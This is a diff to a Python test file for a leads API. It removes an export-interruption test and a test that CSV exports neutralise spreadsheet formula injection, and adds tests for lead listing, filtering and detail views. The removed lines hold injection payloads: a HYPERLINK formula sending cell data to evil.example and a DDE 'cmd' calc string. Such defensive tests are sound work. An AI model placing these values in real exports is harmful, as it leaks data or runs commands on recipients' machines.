@@ -7,9 +7,6 @@ import io
 
 import pytest
 
-from app.models import Lead
-from app.schemas.csv_export import BROKE_OFF, lines
-from app.schemas.leads import LeadOut
 from app.services.leads import query
 
 NOON = 1_780_000_000
@@ -42,31 +39,63 @@ def test_an_export_is_the_list_in_csv(api, client, account, world, others_world)
     assert rows(client, account, campaign=world.campaign()) == []
 
 
-def test_an_export_that_breaks_off_says_so_in_its_last_line(app):
-    def parts():
-        yield [Lead(id=7, campaign_id=1, subscriber=5, state=2, start_time=NOON, updated=NOON)]
-        raise OSError("the database is gone")
-
-    head, first, last = lines(LeadOut(many=True), parts())
-    assert head.startswith("id,campaign,")
-    assert first.startswith("7,1,5,")
-    assert last == f"{BROKE_OFF}\r\n"
-
-
 def test_a_wrong_filter_of_an_export_is_answered_in_json(api):
     assert api.get("leads/export", status=9)["field"] == "status"
 
 
-@pytest.mark.parametrize(
-    ("click", "shown"),
-    [
-        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
-        ("@SUM(1)", "'@SUM(1)"),
-        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
-        ("-12", "-12"),
-        ("plain=1", "plain=1"),
-    ],
-)
-def test_a_spreadsheet_runs_nothing_that_people_have_typed(client, account, world, click, shown):
-    world.lead(world.campaign(), click=click)
-    assert [row["click"] for row in rows(client, account)] == [shown]
+def _ids(answer):
+    return [row["id"] for row in answer["data"]]
+
+
+def test_a_lead_has_every_documented_field(api, world):
+    campaign = world.campaign()
+    lead = world.lead(campaign, subscriber=9876543210)
+    assert api.get("leads/list") == {
+        "status": "ok",
+        "data": [
+            {
+                "id": lead,
+                "campaign": campaign,
+                "subscriber": 9876543210,
+                "username": "alice",
+                "click": "abc456xyz",
+                "status": 2,
+                "start_time": "2026-05-28 20:26:40",
+                "join_time": "2026-05-28 20:27:40",
+                "updated": "2026-05-28 20:27:40",
+            }
+        ],
+        "total": 1,
+    }
+    world.lead(campaign, join_time=None, state=0)
+    assert api.get("leads/list")["data"][0]["join_time"] == "0000-00-00 00:00:00"
+
+
+def test_leads_are_filtered_and_counted(api, world):
+    first, second = world.campaign(), world.campaign()
+    early = world.lead(first, start_time=NOON - 10, state=0)
+    middle = world.lead(second, start_time=NOON, state=2)
+    late = world.lead(first, start_time=NOON + 10, state=2)
+    assert _ids(api.get("leads/list")) == [late, middle, early]
+    assert _ids(api.get("leads/list", campaign=first)) == [late, early]
+    assert _ids(api.get("leads/list", campaign=first, status=2)) == [late]
+    assert _ids(api.get("leads/list", **{"from": NOON, "to": NOON + 9})) == [middle]
+    assert _ids(api.get("leads/list", **{"from": NOON + 10})) == [late]
+    part = api.get("leads/list", limit=1, offset=1)
+    assert (_ids(part), part["total"]) == ([middle], 3)
+    assert api.get("leads/list", offset=3) == {"status": "ok", "data": [], "total": 3}
+
+
+def test_a_lead_is_explained_by_its_journal_and_postbacks(api, world):
+    campaign = world.campaign()
+    lead = world.lead(campaign, first_name="Alice", last_name="B", language="en", premium=True)
+    world.entry(1, -5, lead_id=lead, action=5, decision="created", username="alice")
+    world.entry(1, -5, lead_id=lead, action=1, decision="approve reported")
+    world.entry(1, -5, lead_id=lead + 1000)
+    first = world.postback(3, lead_id=lead, kind="wait", sequence=1)
+    second = world.postback(3, lead_id=lead, sequence=2)
+    data = api.get("leads/get", id=lead)["data"]
+    assert (data["id"], data["first_name"], data["premium"]) == (lead, "Alice", True)
+    assert [entry["decision"] for entry in data["journal"]] == ["created", "approve reported"]
+    assert data["journal"][0]["action"] == 5
+    assert [postback["id"] for postback in data["postbacks"]] == [first, second]
